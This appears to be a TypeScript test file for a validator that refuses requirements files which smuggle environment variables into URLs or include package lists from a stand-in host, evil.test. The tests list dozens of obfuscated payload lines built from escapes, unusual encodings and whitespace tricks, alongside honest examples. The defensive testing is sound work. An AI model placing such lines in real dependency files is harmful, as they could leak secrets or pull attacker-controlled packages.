import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, test } from 'node:test';
import { refuseVariables } from './requirement-lines.ts';

const home = mkdtempSync(join(tmpdir(), 'paddock-requirements-'));
after(() => rmSync(home, { recursive: true, force: true }));
let count = 0;
type Files = Record<string, string | Buffer>;

/** Checks a folder whose files are all read by the client, except those in `unread`. */
function check(files: Files, lines: string[] | null = null): Promise<void> {
  const folder = join(home, String(count++));
  for (const [path, content] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, path)), { recursive: true });
    writeFileSync(join(folder, path), content);
  }
  const inputs = Object.keys(files).filter((path) => !path.startsWith('unread'));
  return refuseVariables(folder, inputs, lines);
}

const refused = { code: 'requirements_refused' };
const evil = 'http://evil.test/r.txt';

test('a variable is refused in every list of packages, whatever the list is called and however the variable is written', async () => {
  const line = 'x @ http://evil.test/${UV_DEFAULT_INDEX}/x.whl\n';
  await assert.rejects(check({ 'requirements.txt': '-r more.list\n', 'more.list': line }), refused);
  for (const text of [
    '-i http://evil.test/$\\{UV_DEFAULT_INDEX}\n',
    '-i http://evil.test/$"{UV_DEFAULT_INDEX}"\n',
    'x @ http://evil.test/${UV_DEFAULT_\\\nINDEX}\n',
    'x @ http://evil.test/$\\\n{UV_DEFAULT_INDEX}\n',
    `# a \u2028${line}`,
    `# a \v${line}`,
  ])
    await assert.rejects(check({ 'requirements.txt': text }), refused, JSON.stringify(text));
  const wide = Buffer.from(`\ufeff${line}`, 'utf16le');
  await assert.rejects(check({ 'requirements.txt': wide }), refused, 'little-endian');
  await assert.rejects(check({ 'requirements.txt': Buffer.from(wide).swap16() }), refused, 'big-endian');
  await assert.rejects(check({ 'requirements.txt': wide.subarray(2) }), refused, 'without a mark');
  await assert.rejects(check({ 'requirements.txt': '# coding: utf-7\nx @ http://evil.test/+ACQAew-A}\n' }), refused);
});

test('a list of packages from another address is refused, however its line is written', async () => {
  for (const text of [
    `-r            ${evil}\n`,
    `-r\t${evil}\n`,
    `-r${evil}\n`,
    `-r=${evil}\n`,
    `-r\n${evil}\n`,
    `-r \\\n${evil}\n`,
    `\\\n-r ${evil}\n`,
    `-\\\nr ${evil}\n`,
    `-r\u0085${evil}\n`,
    `-r\u00a0${evil}\n`,
    `\ufeff  -r ${evil}\n`,
    `--requirement=${evil}\n`,
    `--requirem ${evil}\n`,
    `--cons=${evil}\n`,
    `-c ${evil}\n`,
    `--constraint ${evil}\n`,
    `-c "http"://evil.test/r.txt\n`,
    `"-r" ${evil}\n`,
    `-r ht\\tp://evil.test/r.txt\n`,
    `-r file:///opt/r.txt\n`,
    `six==1 --hash=sha256:aa -r ${evil}\n`,
    `six==1 --hash\n#aaa -r ${evil}\n`,
    `six==1 --hash #aaa -r ${evil}\n`,
    `--require-hashes -r ${evil}\n`,
    `--no-index-r ${evil}\n`,
    `-i http://a.test -r ${evil}\n`,
    `six # a \\\n-r ${evil}\n`,
    `six\r-r ${evil}\r`,
  ])
    await assert.rejects(check({ 'requirements.txt': text, 'http:/evil.test/r.txt': '' }), refused, JSON.stringify(text));
});

test('a file that a list includes is refused unless it was read as one of the lists', async () => {
  for (const line of [
    '-r unread.txt',
    '-r /app/a.txt',
    '-c ../unread.txt',
    '-r a.txt\\\n.unread',
    '-r a.txt b',
    '-r "a.txt"',
    '-r a.txt#b',
  ])
    await assert.rejects(check({ 'requirements.txt': `${line}\n`, 'a.txt': '', 'unread.txt': '' }), refused, line);
});

test('a dependency of a project file cannot bring options along', async () => {
  for (const line of [`six --hash=sha256:aa -r ${evil}`, `-e x --hash=a -c ${evil}`, 'x @ http://evil.test/$\\{HOME}', `-r ${evil}`])
    await assert.rejects(check({}, [line]), refused, line);
  await check({}, ['six==1 ; python_version < "3"', '-e git+https://a.test/b.git#egg=b', 'a[b]>=1, <2']);
});

test('honest lists of packages are not refused', async () => {
  await check({
    'requirements.txt': [
      '\ufeff# for ${HOME} and -r nothing',
      '-r base.txt   # shared',
      '--requirement=lists/dev.in',
      '-c lists/pins',
      '--index-url https://a.test/simple',
      '--extra-index-url=https://b.test/simple',
      '--no-index',
      '--pre',
      '-f wheels',
      '-e .',
      'fastapi[standard]>=0.1, <2 ; python_version >= "3.9"  # web',
      'six==1.16.0 \\',
      '    --hash=sha256:aa \\',
      '    --hash=sha256:bb',
      'x @ https://a.test/x-1.whl#sha256=aa',
      '',
    ].join('\r\n'),
    'base.txt': Buffer.from('\ufeffsix\r\n', 'utf16le'),
    'lists/dev.in': '# -*- coding: utf-8 -*-\n-r ../base.txt\n-r ./more\n',
    'lists/pins': 'six<2',
    'lists/more': '',
  });
});
